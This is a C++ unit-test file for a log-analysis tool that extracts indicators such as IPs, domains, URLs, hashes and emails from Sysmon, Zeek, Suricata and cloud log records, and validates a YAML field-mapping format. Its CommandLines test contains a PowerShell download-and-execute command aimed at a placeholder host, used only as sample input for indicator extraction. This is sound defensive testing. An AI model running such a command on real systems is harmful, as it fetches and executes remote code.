#include "in/observables.h"

#include <gtest/gtest.h>
#include <simdjson.h>

#include <filesystem>
#include <fstream>
#include <set>
#include <sstream>

namespace hinomi::in {
namespace {

ObserveMapping content() {
  ObserveMapping out;
  for (const auto& file : std::filesystem::directory_iterator(
           std::filesystem::path(HINOMI_SOURCE_DIR) / "content/observe")) {
    std::ifstream in(file.path());
    std::stringstream text;
    text << in.rdbuf();
    auto read = read_observe_mapping(text.str(), out);
    EXPECT_TRUE(read) << file.path() << ": " << read.error().text();
  }
  return out;
}

// "ipv4:192.0.2.1 SourceIp" each.
std::set<std::string> found_in(const ObserveMapping& mapping, std::string_view json) {
  ObservableReader reader(mapping);
  simdjson::padded_string padded(json);
  std::set<std::string> out;
  for (const Observable& one : reader.read(padded))
    out.insert(key_of(one.type, one.value) + " " + std::string(one.field));
  return out;
}

std::set<std::string> found(std::string_view json) {
  static const ObserveMapping mapping = content();
  return found_in(mapping, json);
}

using Keys = std::set<std::string>;

TEST(Observables, SysmonInEveryNesting) {
  Keys connect = {"ipv4:198.51.100.7 SourceIp", "ipv6:2001:db8::5 DestinationIp",
                  "domain:c2.example DestinationHostname"};
  std::string_view fields =
      R"("SourceIp":"198.51.100.7","DestinationIp":"2001:DB8:0:0:0:0:0:5",)"
      R"("DestinationHostname":"C2.example","SourceHostname":"-","DestinationPort":"443")";
  EXPECT_EQ(found("{" + std::string(fields) + "}"), connect);
  EXPECT_EQ(found("{\"Event\":{\"EventData\":{" + std::string(fields) + "}}}"), connect);
  EXPECT_EQ(found("{\"winlog\":{\"event_data\":{" + std::string(fields) + "}}}"), connect);
  EXPECT_EQ(
      found(
          R"({"Hashes":"SHA1=DA39A3EE5E6B4B0D3255BFEF95601890AFD80709,MD5=D41D8CD98F00B204E9800998ECF8427E,)"
          R"(SHA256=E3B0C44298FC1C149AFBF4C8996FB92427AE41E4649B934CA495991B7852B855,IMPHASH=D41D8CD98F00B204E9800998ECF84270"})"),
      (Keys{"sha1:da39a3ee5e6b4b0d3255bfef95601890afd80709 Hashes",
            "md5:d41d8cd98f00b204e9800998ecf8427e Hashes",
            "sha256:e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855 Hashes"}));
  EXPECT_EQ(
      found(
          R"({"QueryName":"www.example.jp","QueryResults":"type:  5 cdn.example.com;::ffff:203.0.113.9;"})"),
      (Keys{"domain:www.example.jp QueryName", "domain:cdn.example.com QueryResults",
            "ipv4:203.0.113.9 QueryResults"}));
}

TEST(Observables, CommandLines) {
  EXPECT_EQ(
      found(
          R"x({"CommandLine":"powershell IEX(New-Object Net.WebClient).DownloadString('http://192.0.2.66/a.ps1');ping host.example.org"})x"),
      (Keys{"url:http://192.0.2.66/a.ps1 CommandLine", "ipv4:192.0.2.66 CommandLine",
            "domain:host.example.org CommandLine"}));
  EXPECT_EQ(found(R"({"CommandLine":"C:\\Windows\\System32\\svchost.exe -k netsvcs -p"})"), Keys{});
}

TEST(Observables, Zeek) {
  Keys conn = {"ipv4:192.0.2.3 id_orig_h", "ipv4:203.0.113.4 id_resp_h"};
  EXPECT_EQ(found(R"({"id_orig_h":"192.0.2.3","id_resp_h":"203.0.113.4"})"), conn);
  EXPECT_EQ(found(R"({"id.orig_h":"192.0.2.3","id.resp_h":"203.0.113.4"})"),
            (Keys{"ipv4:192.0.2.3 id.orig_h", "ipv4:203.0.113.4 id.resp_h"}));
  // A query is a name in DNS only.
  EXPECT_EQ(
      found(
          R"({"_path":"dns","query":"a.example","answers":["b.example","192.0.2.9","TXT 4 spf1"]})"),
      (Keys{"domain:a.example query", "domain:b.example answers", "ipv4:192.0.2.9 answers"}));
  EXPECT_EQ(found(R"({"_path":"sql","query":"a.example"})"), Keys{});
  EXPECT_EQ(
      found(
          R"({"@stream":"http","host":"www.example","uri":"/x?y","referrer":"http://portal.example/"})"),
      (Keys{"domain:www.example host", "url:http://www.example/x?y uri",
            "url:http://portal.example/ referrer", "domain:portal.example referrer"}));
  EXPECT_EQ(found(R"({"_path":"http","host":"www.example","uri":"http://other.example/x"})"),
            (Keys{"domain:www.example host", "url:http://other.example/x uri",
                  "domain:other.example uri"}));
  EXPECT_EQ(found(R"({"_path":"smtp","from":"花子 <Hanako@mail.example>","to":["<a@b.example>"]})"),
            (Keys{"email:Hanako@mail.example from", "domain:mail.example from",
                  "email:a@b.example to", "domain:b.example to"}));
}

TEST(Observables, SuricataCloudsAndSchemas) {
  EXPECT_EQ(
      found(
          R"({"event_type":"dns","src_ip":"192.0.2.3","dns":{"query":[{"rrname":"q.example"}],"answers":[{"rdata":"2001:db8::9"}]}})"),
      (Keys{"ipv4:192.0.2.3 src_ip", "domain:q.example dns.query.rrname",
            "ipv6:2001:db8::9 dns.answers.rdata"}));
  EXPECT_EQ(found(R"({"event_type":"http","http":{"hostname":"192.0.2.8","url":"/a"}})"),
            (Keys{"ipv4:192.0.2.8 http.hostname", "url:http://192.0.2.8/a http.url"}));
  EXPECT_EQ(found(R"({"eventSource":"s3.amazonaws.com","sourceIPAddress":"198.51.100.1"})"),
            (Keys{"ipv4:198.51.100.1 sourceIPAddress"}));
  EXPECT_EQ(
      found(
          R"({"destination":{"ip":"198.51.100.1"},"url":{"full":"https://e.example"},"file":{"hash":{"md5":"d41d8cd98f00b204e9800998ecf8427e"}}})"),
      (Keys{"ipv4:198.51.100.1 destination.ip", "url:https://e.example/ url.full",
            "domain:e.example url.full", "md5:d41d8cd98f00b204e9800998ecf8427e file.hash.md5"}));
  EXPECT_EQ(
      found(
          R"({"class_uid":1001,"file":{"hashes":[{"algorithm_id":1,"value":"d41d8cd98f00b204e9800998ecf8427e"}]}})"),
      (Keys{"md5:d41d8cd98f00b204e9800998ecf8427e file.hashes.value"}));
  EXPECT_EQ(found(R"({"cs-host":"connect.example:443","url":"connect.example:443"})"),
            (Keys{"domain:connect.example cs-host"}));
}

TEST(Observables, JapaneseTextAndNames) {
  EXPECT_EQ(
      found(
          R"({"program":"proxy","message":"接続先192.0.2.5へ、http://例え.example/パス 拒否、連絡 t@exámple.example"})"),
      (Keys{"ipv4:192.0.2.5 message", "url:http://xn--r8jz45g.example/ message",
            "domain:xn--r8jz45g.example message"}));
  EXPECT_EQ(found(R"({"QueryName":"例え.example"})"),
            (Keys{"domain:xn--r8jz45g.example QueryName"}));
  EXPECT_EQ(found(R"({"QueryName":"ＷＷＷ．ｅｘａｍｐｌｅ．ｊｐ"})"),
            (Keys{"domain:www.example.jp QueryName"}));
}

TEST(Observables, WhatIsNoEventNamesNothing) {
  for (std::string_view json :
       {"", "{", "[]", "\"x\"", "{}", R"({"SourceIp":null})", R"({"SourceIp":{}})",
        R"({"SourceIp":""})", R"({"SourceIp":"192.0.2.0/24"})", R"({"SourceIp":3})"})
    EXPECT_EQ(found(json), Keys{}) << json;
}

TEST(Observables, TextsOfLogs) {
  std::vector<Word> words;
  auto taken = [&](std::string_view text) {
    find_words(text, words);
    std::string out;
    for (const Word& word : words)
      out += std::string(name_of(word.type)) + "=" + std::string(word.text) + " ";
    return out;
  };
  EXPECT_EQ(taken("Failed password for root from 192.0.2.7 port 22 ssh2"), "network=192.0.2.7 ");
  EXPECT_EQ(taken("dst=192.0.2.7:443,src=[2001:db8::7]:1"),
            "network=192.0.2.7 network=2001:db8::7 ");
  EXPECT_EQ(taken("see https://a.example/x(1). Or http://b.example)"),
            "url=https://a.example/x(1) url=http://b.example ");
  EXPECT_EQ(taken("MD5:d41d8cd98f00b204e9800998ecf8427e 12345678901234567890123456789012"),
            "md5=d41d8cd98f00b204e9800998ecf8427e md5=12345678901234567890123456789012 ");
  EXPECT_EQ(taken("mail a.b@c.example, setup.py cmd.exe System.Xml x::y 10:20:30 e.g. 1.2.3"),
            "email=a.b@c.example ");
  EXPECT_EQ(taken("gopher://a.example file:///etc/passwd http://"), "domain=a.example ");
  EXPECT_EQ(taken(":80 : :: x: .:. a@ a@@b.example exámple.example münchen.example"), "");
  EXPECT_EQ(taken("host:www.example.jp;cn=例え.example"), "domain=www.example.jp ");
}

// What is found does not hang on where in the text it stands.
TEST(Observables, TextsOfLogsAtEveryPlace) {
  const std::string_view texts[] = {
      "from 192.0.2.7 port 22",
      "x d41d8cd98f00b204e9800998ecf8427e y",
      "da39a3ee5e6b4b0d3255bfef95601890afd80709",
      "e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855,a.example",
      "d41d8cd98f00b204e9800998ecf8427e.example.com:8080/x https://a.example:1/b?c=d#e",
      "d41d8cd98f00b204e9800998ecf8427e_ 0123456789abcdef0123456789abcdeg",
      "src=[2001:db8::7]:1 SHA1:da39a3ee5e6b4b0d3255bfef95601890afd80709;",
      "接続先192.0.2.5へhttp://例え.example/パス",
  };
  std::vector<Word> words;
  auto taken = [&](const std::string& text) {
    find_words(text, words);
    std::string out;
    for (const Word& word : words)
      out += std::string(name_of(word.type)) + "=" + std::string(word.text) + " ";
    return out;
  };
  for (std::string_view text : texts) {
    const std::string alone = taken(std::string(text));
    for (std::size_t before = 1; before < 130; ++before)
      for (std::string_view behind : {"", " ", " and some more that is longer than one block is"}) {
        const std::string whole =
            std::string(before, ' ') + std::string(text) + std::string(behind);
        EXPECT_EQ(taken(whole), alone) << before << " " << text;
      }
  }
}

TEST(ObserveMapping, RefusesWithLine) {
  auto refused = [](std::string_view text) {
    ObserveMapping out;
    auto read = read_observe_mapping(text, out);
    return read ? std::string("read") : read.error().where + ": " + read.error().what;
  };
  EXPECT_EQ(refused("sources:\n  - fields: {a: domain-name:value}\n"), "read");
  EXPECT_EQ(refused("- a"), "line 1: a mapping is one YAML map");
  EXPECT_EQ(refused("fields:\n  a: b"), "line 2: a mapping has no 'fields'");
  EXPECT_EQ(refused("sources:\n  - felds: {}\n"), "line 2: a source has no 'felds'");
  EXPECT_EQ(refused("sources:\n  - fields:\n      a: domain\n"),
            "line 3: not a STIX object path: domain");
  EXPECT_EQ(refused("sources:\n  - fields:\n      a: file:name|bse\n"), "line 3: no such cut: bse");
  EXPECT_EQ(refused("sources:\n  - when: {}\n"),
            "line 2: 'when' is a map of fields to texts, or a list of such maps");
  EXPECT_EQ(refused("sources:\n  - joined: [{path: \"url:value\", text: \"http://{a}/\"}]\n"),
            "line 2: a joined value needs 'path' and a 'text' that ends in a field");
}

TEST(ObserveMapping, PathsOfValues) {
  auto types = [](std::string_view path) {
    std::string out;
    for (int i = 0; i < indicator_type_count; ++i)
      if (indicator_types_of(path) >> i & 1)
        out += std::string(name_of(static_cast<IndicatorType>(i))) + " ";
    return out;
  };
  EXPECT_EQ(types("ipv4-addr:value"), "ipv4 ");
  EXPECT_EQ(types("network-traffic:dst_ref.value"), "ipv4 ipv6 domain ");
  EXPECT_EQ(types("process:image_ref.hashes.'SHA-256'"), "sha256 ");
  EXPECT_EQ(types("file:hashes.MD5"), "md5 ");
  EXPECT_EQ(types("file:hashes.SSDEEP"), "");
  EXPECT_EQ(types("email-message:to_refs.value"), "email ");
  EXPECT_EQ(types("process:command_line"), "");
  EXPECT_EQ(base_of("C:\\Windows\\cmd.exe"), "cmd.exe");
  EXPECT_EQ(folder_of("C:\\Windows\\cmd.exe"), "C:\\Windows");
  EXPECT_EQ(base_of("cmd.exe"), "cmd.exe");
  EXPECT_EQ(folder_of("cmd.exe"), "");
}

}  // namespace
}  // namespace hinomi::in
